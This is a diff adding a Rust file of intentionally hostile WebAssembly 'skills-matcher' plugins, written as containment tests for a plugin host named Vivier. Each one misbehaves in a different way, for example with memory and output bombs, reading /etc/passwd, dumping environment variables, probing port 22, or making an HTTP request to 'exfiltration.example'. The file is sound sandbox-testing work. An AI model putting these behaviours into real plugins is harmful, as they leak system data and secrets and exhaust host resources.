@@ -1,0 +1,143 @@
+//! Hostile plugins for the containment tests: each cargo feature builds a `skills-matcher`
+//! component that misbehaves in one way. None of this code is ever bundled with Vivier.
+#![allow(unreachable_code, unused_variables, unconditional_recursion, dead_code, clippy::all)]
+
+use vivier_sdk::skills_matcher::{Assessment, Candidate, MatchError, Posting, SkillsMatcher};
+
+struct Hostile;
+
+fn assessment(id: String, score: f32, summary: String) -> Assessment {
+    Assessment { candidate_id: id, score, requirements: vec![], summary, interview_questions: vec![] }
+}
+
+#[inline(never)]
+fn recurse(depth: u64, pad: &mut [u8; 256]) -> u64 {
+    pad[0] = pad[0].wrapping_add(1);
+    let mut local = [0u8; 256];
+    local[depth as usize % 256] = 1;
+    recurse(depth + 1, &mut local) + u64::from(pad[0])
+}
+
+impl SkillsMatcher for Hostile {
+    fn assess(posting: Posting, candidates: Vec<Candidate>) -> Result<Vec<Assessment>, MatchError> {
+        let ids = || candidates.iter().map(|c| c.id.clone());
+        #[cfg(feature = "noop")]
+        return Ok(vec![]);
+
+        #[cfg(feature = "infinite-loop")]
+        {
+            let mut n: u64 = 0;
+            loop {
+                n = std::hint::black_box(n.wrapping_add(1));
+            }
+        }
+
+        #[cfg(feature = "deep-recursion")]
+        {
+            let mut pad = [0u8; 256];
+            let depth = recurse(0, &mut pad);
+            return Ok(ids().map(|id| assessment(id, 0.0, depth.to_string())).collect());
+        }
+
+        #[cfg(feature = "memory-bomb")]
+        {
+            // Grow toward 4 GiB, 16 MiB at a time, keeping everything.
+            let mut hoard: Vec<Vec<u8>> = Vec::new();
+            for _ in 0..256 {
+                hoard.push(vec![1u8; 16 << 20]);
+            }
+            return Ok(ids().map(|id| assessment(id, hoard.len() as f32, String::new())).collect());
+        }
+
+        #[cfg(feature = "output-bomb")]
+        {
+            // Try to return 1 GiB of text.
+            let chunk = "x".repeat(1 << 20);
+            let summary: String = std::iter::repeat(chunk.as_str()).take(1024).collect();
+            return Ok(ids().map(|id| assessment(id, 0.0, summary.clone())).collect());
+        }
+
+        #[cfg(feature = "output-flood")]
+        {
+            // 24 MiB of output: within the plugin's memory, over the host's output limit.
+            let summary = "y".repeat(24 << 20);
+            return Ok(ids().map(|id| assessment(id, 0.0, summary.clone())).collect());
+        }
+
+        #[cfg(feature = "read-passwd")]
+        {
+            let found = match std::fs::read_to_string("/etc/passwd") {
+                Ok(text) => text,
+                Err(e) => format!("denied: {e}"),
+            };
+            let listing = std::fs::read_dir("/").map(|d| d.count()).unwrap_or(0);
+            return Ok(ids().map(|id| assessment(id, 0.0, format!("{found} / entries: {listing}"))).collect());
+        }
+
+        #[cfg(feature = "read-env")]
+        {
+            let vars: Vec<String> = std::env::vars().map(|(k, v)| format!("{k}={v}")).collect();
+            let args: Vec<String> = std::env::args().collect();
+            let home = std::env::var("HOME").unwrap_or_default();
+            return Ok(ids().map(|id| assessment(id, 0.0, format!("vars={vars:?} args={args:?} home={home}"))).collect());
+        }
+
+        #[cfg(feature = "open-socket")]
+        {
+            let result = std::net::TcpStream::connect("127.0.0.1:22").map(|_| "connected").unwrap_or("refused");
+            return Ok(ids().map(|id| assessment(id, 0.0, result.into())).collect());
+        }
+
+        #[cfg(feature = "http-without-grant")]
+        {
+            use wasi::http::types::{Fields, OutgoingRequest, Scheme};
+            let request = OutgoingRequest::new(Fields::new());
+            let _ = request.set_scheme(Some(&Scheme::Https));
+            let _ = request.set_authority(Some("exfiltration.example"));
+            let sent = wasi::http::outgoing_handler::handle(request, None).is_ok();
+            return Ok(ids().map(|id| assessment(id, 0.0, format!("sent={sent}"))).collect());
+        }
+
+        #[cfg(feature = "panic")]
+        panic!("hostile plugin panicked on purpose");
+
+        #[cfg(feature = "unreachable")]
+        core::arch::wasm32::unreachable();
+
+        #[cfg(feature = "log-flood")]
+        {
+            use vivier_sdk::skills_matcher::log::{emit, Level};
+            for i in 0..200_000 {
+                emit(Level::Info, &format!("flood line {i} {}", "z".repeat(100)));
+                println!("stdout flood {i}");
+                eprintln!("stderr flood {i}");
+            }
+            return Ok(ids().map(|id| assessment(id, 0.5, "survived".into())).collect());
+        }
+
+        #[cfg(feature = "nan-score")]
+        return Ok(ids()
+            .enumerate()
+            .map(|(i, id)| assessment(id, if i % 2 == 0 { f32::NAN } else { -7.5 }, String::new()))
+            .collect());
+
+        #[cfg(feature = "wrong-ids")]
+        return Ok(vec![assessment("not-a-candidate".into(), 0.9, String::new())]);
+
+        #[cfg(feature = "remember")]
+        {
+            use std::sync::atomic::{AtomicU32, Ordering};
+            static CALLS: AtomicU32 = AtomicU32::new(0);
+            let seen = CALLS.fetch_add(1, Ordering::SeqCst) + 1;
+            return Ok(ids().map(|id| assessment(id, 0.5, format!("calls seen by this instance: {seen}"))).collect());
+        }
+
+        #[cfg(feature = "exit")]
+        std::process::exit(3);
+
+        #[allow(unreachable_code)]
+        Err(MatchError::Internal("built without a hostile feature".into()))
+    }
+}
+
+vivier_sdk::skills_matcher::export_skills_matcher!(Hostile);
